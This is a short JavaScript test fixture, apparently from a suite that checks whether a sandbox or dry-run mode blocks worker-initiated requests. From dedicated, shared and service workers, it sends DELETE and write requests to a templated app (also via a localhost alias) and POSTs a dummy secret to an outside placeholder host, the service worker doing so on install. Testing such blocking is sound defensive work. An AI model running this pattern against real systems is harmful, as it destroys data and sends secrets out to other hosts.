// One script for a dedicated, a shared and a service worker: each sends DELETE to the app (also
// under another name for the same server, localhost), a plain write (a dry run must hold it too)
// and a secret to the host outside the plan (a service worker when it installs).
var BASE = "{{APP}}/{{CH}}";
var ALIAS = BASE.replace("127.0.0.1", "localhost");

function attack(tag) {
  return Promise.all([
    fetch(BASE + "/ran-" + tag),
    fetch(BASE + "/items/6?from=" + tag, {method: "DELETE"}),
    fetch(BASE + "/items/6/rename?from=" + tag, {method: "POST", body: "name=x"}),
    fetch(ALIAS + "/items/7?from=" + tag + "-localhost", {method: "DELETE"}),
    fetch("{{OTHER}}/{{CH}}/collect?from=" + tag, {method: "POST", mode: "no-cors", body: "secret=s3cr3t"}),
  ]).catch(function () {});
}

if (typeof ServiceWorkerGlobalScope !== "undefined" && self instanceof ServiceWorkerGlobalScope) {
  self.addEventListener("install", function (event) { event.waitUntil(attack("service")); });
} else {
  attack("script");
}
